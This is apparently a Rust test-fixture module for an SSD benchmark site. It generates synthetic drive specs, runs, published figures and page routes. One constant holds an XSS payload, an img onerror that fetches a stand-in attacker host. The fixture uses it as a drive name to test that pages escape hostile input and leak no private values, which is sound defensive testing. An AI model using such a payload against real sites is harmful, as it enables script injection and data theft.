//! Results made up for tests: any number of drives, in every kind, with names that mean harm.
#![allow(dead_code, reason = "benches use a part of it")]

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::sync::Mutex;

use writecliff::suite::{Good, Status};
use writecliff_bench::{
    Bench, Conditions, Drive, Gather, Kind, Metric, NewPublished, NewRun, Picture, Pictures, Price,
    Private, Published, Source, Stretch, slug,
};

/// What would run if a page took a name for markup or for a script.
pub(crate) const HOSTILE: &str =
    "<img src=x onerror=\"fetch('http://evil.example')\">'</script>|=1+1";

/// What must be in no page.
pub(crate) const SECRETS: [&str; 3] = ["SECRET-SERIAL", "secret-host", "/secret/directory"];

/// The figures of a run, most telling first.
const FIGURES: [(&str, &str, Good); 8] = [
    ("fresh", "IOPS", Good::AtLeast),
    ("steady mean", "IOPS", Good::AtLeast),
    ("steady floor", "IOPS", Good::AtLeast),
    ("steady floor / mean", "%", Good::AtLeast),
    ("steady latency p99.9", "ms", Good::AtMost),
    ("longest write", "ms", Good::AtMost),
    ("write amplification", "", Good::AtMost),
    ("sequential fill", "MB/s", Good::AtLeast),
];

/// Of one to `below`, the same for the same arguments.
fn number(seed: usize, salt: usize, below: usize) -> usize {
    let mixed = (seed as u64 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ (salt as u64) << 17;
    1 + (mixed.wrapping_mul(0xbf58_476d_1ce4_e5b9) >> 33) as usize % below
}

fn one_of<'a>(all: &[&'a str], seed: usize, salt: usize) -> &'a str {
    all[number(seed, salt, all.len()) - 1]
}

pub(crate) fn drive(at: usize) -> Drive {
    let maker = one_of(&["Samsung", "Intel", "Crucial", "SanDisk", "OCZ"], at, 1);
    let gb = [120, 240, 256, 480, 960][number(at, 2, 5) - 1];
    let name = if at == 3 { HOSTILE.to_owned() } else { format!("{maker} Model {at} {gb}GB") };
    let price = Price { usd: number(at, 3, 900) as f64, of: Some("NewEgg, 2014-01-06".to_owned()) };
    Drive {
        id: slug(&name),
        maker: Some(maker.to_owned()),
        capacity: Some(gb * 1_000_000_000),
        interface: Some(one_of(&["SATA 6 Gb/s", "SATA 3 Gb/s", "PCIe 3.0 x4"], at, 4).to_owned()),
        nand: Some(format!("{maker} {} nm", 10 + number(at, 5, 3))),
        cell: Some(one_of(&["SLC", "MLC", "TLC"], at, 6).to_owned()),
        controller: Some(format!("{maker} controller {}", number(at, 7, 4))),
        form_factor: Some("2.5\"".to_owned()),
        year: Some(2008 + number(at, 8, 8) as u16),
        price: (!at.is_multiple_of(4)).then_some(price),
        rotates: false,
        profile: (at == 0).then(|| "samsung-840-evo-250gb".to_owned()),
        specification: vec![("DRAM".to_owned(), "512 MiB".to_owned())],
        name,
    }
}

fn metric(test: &str, (name, unit, good): (&str, &str, Good)) -> Metric {
    Metric {
        id: format!("{test}.{}", name.replace(' ', "-").replace('/', "~")),
        test: test.to_owned(),
        name: name.to_owned(),
        of: None,
        unit: unit.to_owned(),
        good,
        judged: name != "fresh",
    }
}

pub(crate) fn conditions(test: &str, kind: Kind, words: &str) -> Conditions {
    let parts = [("plan", words), ("purge", "secure erase")];
    Conditions {
        test: test.to_owned(),
        kind,
        id: slug(&format!("{test} {kind:?} {words}")),
        standard: words == "the whole method",
        quick: words == "quick",
        unfinished: false,
        words: words.to_owned(),
        parts: parts.map(|(key, value)| (key.to_owned(), value.to_owned())).into(),
    }
}

pub(crate) fn run(at: usize, seed: usize, test: &str, conditions: Conditions) -> NewRun {
    let salt = conditions.words.len() + conditions.kind as usize;
    // Runs of one drive lie up to a tenth apart.
    let off = |row: usize| 1.0 + number(at, (seed + 1) * 1000 + row, 100) as f64 / 1000.0;
    let value = |row: usize| number(at, salt + row, 90_000) as f64 / (1 + row) as f64 * off(row);
    let figures =
        FIGURES.iter().enumerate().map(|(row, figure)| (metric(test, *figure), value(row)));
    NewRun {
        id: slug(&format!("r{at} {seed} {}", conditions.id)),
        drive: drive(at),
        variant: (at % 7 == 5).then(|| "firmware EXT0BB6Q".to_owned()),
        started: format!("2026-11-{:02}T10:00:00Z", 1 + seed % 28),
        label: None,
        status: Status::Complete,
        may_win: at % 5 != 1,
        undoubted: Vec::new(),
        doubts: if at % 5 == 1 { vec!["The queue ran dry.".to_owned()] } else { Vec::new() },
        seed: seed as u64,
        tool_version: "0.1.0".to_owned(),
        figures: figures.collect(),
        catalogue: false,
        private: Private {
            directory: Some(PathBuf::from(SECRETS[2])),
            report: None,
            serial: Some(SECRETS[0].to_owned()),
            host: Some(SECRETS[1].to_owned()),
        },
        conditions,
    }
}

fn published(at: usize) -> NewPublished {
    let source = "A review, 2013".to_owned();
    NewPublished {
        drive: drive(at),
        metric: metric("consistency", FIGURES[1]),
        conditions: Conditions {
            standard: true,
            ..conditions("published", Kind::Published, "measured by A. Reviewer")
        },
        figure: Published {
            drive: 0,
            metric: 0,
            conditions: 0,
            value: number(at, 9, 50_000) as f64,
            bound: at.is_multiple_of(2).then(|| "at least".to_owned()),
            rated: at.is_multiple_of(3),
            condition: Some("QD32".to_owned()),
            source,
            url: Some("https://example.org/review".to_owned()),
        },
    }
}

/// So many drives with so many simulated runs each, every third measured as well, every fifth with a
/// printed figure; and some under other conditions.
pub(crate) fn gathered(drives: usize, seeds: usize) -> Gather {
    let mut gather = Gather::default();
    for at in 0..drives {
        let whole = |kind| conditions("consistency", kind, "the whole method");
        (0..seeds)
            .for_each(|seed| gather.run(run(at, seed, "consistency", whole(Kind::Simulated))));
        if at.is_multiple_of(3) {
            gather.run(run(at, 0, "consistency", whole(Kind::Measured)));
        }
        if at.is_multiple_of(4) {
            let quick = conditions("consistency", Kind::Simulated, "quick");
            gather.run(run(at, 0, "consistency", quick));
            let trim = conditions("trim", Kind::Simulated, "the whole method");
            gather.run(run(at, 0, "trim", trim));
        }
        if at.is_multiple_of(5) {
            gather.published(published(at));
        }
    }
    gather
}

pub(crate) fn bench(drives: usize, seeds: usize) -> Bench {
    gathered(drives, seeds).finish()
}

/// A cliff for every run.
pub(crate) struct Cliffs;

impl Pictures for Cliffs {
    fn pictures(&self, run: &str) -> Vec<Picture> {
        let low = 500.0 + run.len() as f32 * 100.0;
        let stretch = |at: i32| match at {
            0..40 => Stretch(60_000.0, 66_000.0, 67_000.0),
            _ => Stretch(if at % 9 == 0 { 0.0 } else { low / 2.0 }, low, low * 3.0),
        };
        let (name, unit) = ("random writes".to_owned(), "IOPS".to_owned());
        vec![Picture { name, unit, seconds: 10.0, stretches: (0..200).map(stretch).collect() }]
    }
}

/// Results that a test can change while they are served.
#[derive(Default)]
pub(crate) struct Given(pub(crate) Mutex<Option<Bench>>);

impl Source for Given {
    fn fresh(&self) -> Option<Bench> {
        self.0.lock().unwrap().take()
    }
}

impl Pictures for Given {
    fn pictures(&self, run: &str) -> Vec<Picture> {
        Cliffs.pictures(run)
    }
}

/// The values of a metric that a ranking shows, best first: drive, variant and median. This is what
/// the pages are held against.
pub(crate) fn ranking(
    bench: &Bench,
    metric: &str,
    is_wanted: impl Fn(&Conditions) -> bool,
    passes: impl Fn(&Drive) -> bool,
) -> Vec<(String, f64)> {
    let metric_at = bench.metrics.iter().position(|one| one.id == metric).unwrap();
    let is_more = bench.metrics[metric_at].good == Good::AtLeast;
    let mut rows: Vec<(&str, &Option<String>, f64)> = bench
        .values
        .iter()
        .filter(|value| value.metric == metric_at && is_wanted(&bench.conditions[value.conditions]))
        .filter(|value| passes(&bench.drives[value.drive]))
        .map(|value| (bench.drives[value.drive].id.as_str(), &value.variant, value.median))
        .collect();
    rows.sort_by(|a, b| {
        let order = if is_more { b.2.total_cmp(&a.2) } else { a.2.total_cmp(&b.2) };
        order.then((a.0, a.1).cmp(&(b.0, b.1)))
    });
    rows.into_iter().map(|(drive, _, value)| (drive.to_owned(), value)).collect()
}

/// Whatever a page may be asked for, as places: the same on each of them.
pub(crate) fn places(bench: &Bench) -> BTreeMap<&'static str, String> {
    let compared: Vec<&str> = bench.drives.iter().take(3).map(|drive| drive.id.as_str()).collect();
    BTreeMap::from([
        ("ranking", "#ranking?figure=consistency.longest-write&mark=intel-model-1".to_owned()),
        ("mixed", "#ranking?kind=mixed".to_owned()),
        ("compare", format!("#compare?drives={}", compared.join(","))),
        ("drive", format!("#drive/{}", compared[0])),
        ("drives", "#drives?maker=Intel".to_owned()),
        ("scatter", "#scatter?x=price-per-gb&y=consistency.steady-mean".to_owned()),
        ("table", "#table?test=consistency&sort=-consistency.fresh".to_owned()),
        ("unknown", "#drive/nobody".to_owned()),
    ])
}
